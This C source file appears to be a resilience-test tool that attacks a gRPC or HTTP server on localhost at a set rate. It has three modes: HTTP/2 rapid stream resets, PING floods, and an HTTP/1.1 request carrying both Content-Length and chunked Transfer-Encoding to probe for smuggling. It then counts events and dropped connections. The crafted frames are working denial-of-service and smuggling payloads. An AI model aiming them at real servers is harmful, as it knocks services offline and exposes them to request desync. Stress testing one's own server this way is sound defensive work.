/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An attacker of the gRPC port, at a steady rate, on one connection; a new one follows when it is
 * cut.
 *
 *   attack reset|ping|smuggle PORT RATE    RATE events a second until standard input ends; prints
 *       how many there were and how often it was cut
 *
 * An event is a request that is reset at once; a PING; or a connection with a request of two
 * lengths (RFC 9112 6.1).
 */
#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct attacker {
    uint16_t port;
    int fd; /* -1: none */
    uint32_t stream;
    uint64_t events, cuts;
};

static void drop(struct attacker *attacker)
{
    close(attacker->fd);
    attacker->fd = -1;
    attacker->cuts++;
}

static void connect_to(struct attacker *attacker)
{
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_port = htons(attacker->port),
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int on = 1;
    attacker->fd = socket(AF_INET, SOCK_STREAM, 0);
    attacker->stream = 1;
    if (attacker->fd < 0 ||
        connect(attacker->fd, (struct sockaddr *)&address, sizeof(address)) != 0) {
        perror("attack: connect");
        exit(1);
    }
    setsockopt(attacker->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
}

static void send_bytes(struct attacker *attacker, const void *bytes, size_t size)
{
    if (attacker->fd >= 0 && send(attacker->fd, bytes, size, MSG_NOSIGNAL) != (ssize_t)size)
        drop(attacker);
}

/* Reads what has come; the connection is dropped where it has ended. */
static void hear(struct attacker *attacker)
{
    static uint8_t bytes[65536];
    ssize_t got = 1;
    while (attacker->fd >= 0 && got > 0)
        got = recv(attacker->fd, bytes, sizeof(bytes), MSG_DONTWAIT);
    if (attacker->fd >= 0 && got == 0)
        drop(attacker);
}

static void open_h2(struct attacker *attacker)
{
    static const char opening[] =
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0\0\0\0\4\1\0\0\0\0";
    hear(attacker);
    if (attacker->fd < 0) {
        connect_to(attacker);
        send_bytes(attacker, opening, sizeof(opening) - 1);
    }
}

static void reset(struct attacker *attacker)
{
    /* HEADERS without END_STREAM, of the static table but for the host; RST_STREAM (CANCEL). */
    uint8_t frames[] = "\0\0\16\1\4\0\0\0\0\x83\x86\x84\x01\x09localhost"
                       "\0\0\4\3\0\0\0\0\0\0\0\0\10";
    enum { HEADERS = 9 + 14, STREAM = 5 };
    open_h2(attacker);
    uint32_t id = htonl(attacker->stream);
    attacker->stream += 2;
    memcpy(frames + STREAM, &id, sizeof(id));
    memcpy(frames + HEADERS + STREAM, &id, sizeof(id));
    send_bytes(attacker, frames, sizeof(frames) - 1);
}

static void ping(struct attacker *attacker)
{
    static const char frame[] = "\0\0\10\6\0\0\0\0\0attacker";
    open_h2(attacker);
    send_bytes(attacker, frame, sizeof(frame) - 1);
}

static void smuggle(struct attacker *attacker)
{
    static const char request[] = "POST /v1/traces HTTP/1.1\r\nHost: localhost\r\n"
                                  "Content-Type: application/x-protobuf\r\nContent-Length: 4\r\n"
                                  "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    uint8_t answer[1024];
    connect_to(attacker);
    send_bytes(attacker, request, sizeof(request) - 1);
    while (attacker->fd >= 0 && recv(attacker->fd, answer, sizeof(answer), 0) > 0)
        continue;
    if (attacker->fd >= 0)
        drop(attacker);
}

static uint64_t now_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void (*run)(struct attacker *attacker);
    } kinds[] = {{"reset", reset}, {"ping", ping}, {"smuggle", smuggle}};
    struct attacker attacker = {.fd = -1};
    unsigned kind = 0;
    while (argc == 4 && kind < 3 && strcmp(argv[1], kinds[kind].name) != 0)
        kind++;
    if (argc != 4 || kind == 3) {
        fprintf(stderr, "usage: attack reset|ping|smuggle PORT RATE\n");
        return 2;
    }
    attacker.port = (uint16_t)atoi(argv[2]);
    uint64_t rate = (uint64_t)atoi(argv[3]), began = now_ns();
    struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
    while (poll(&input, 1, 1) == 0) {
        for (; attacker.events < (now_ns() - began) * rate / 1000000000u; attacker.events++)
            kinds[kind].run(&attacker);
    }
    printf("%llu %llu\n", (unsigned long long)attacker.events, (unsigned long long)attacker.cuts);
    return 0;
}
